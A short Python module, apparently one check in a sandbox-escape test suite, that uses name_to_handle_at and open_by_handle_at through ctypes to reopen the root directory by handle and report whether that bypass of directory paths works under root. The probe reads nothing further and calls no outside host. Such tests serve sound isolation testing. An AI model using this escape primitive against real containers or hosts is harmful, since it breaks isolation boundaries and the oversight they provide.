"""Reach out or persist: opens files by their inode, past every folder: name_to_handle_at and open_by_handle_at.

breaches: process
needs: root
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None)


def breach():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
    mount = ctypes.c_int()
    libc.name_to_handle_at(-100, b"/", handle, ctypes.byref(mount), 0)
    return libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY) >= 0
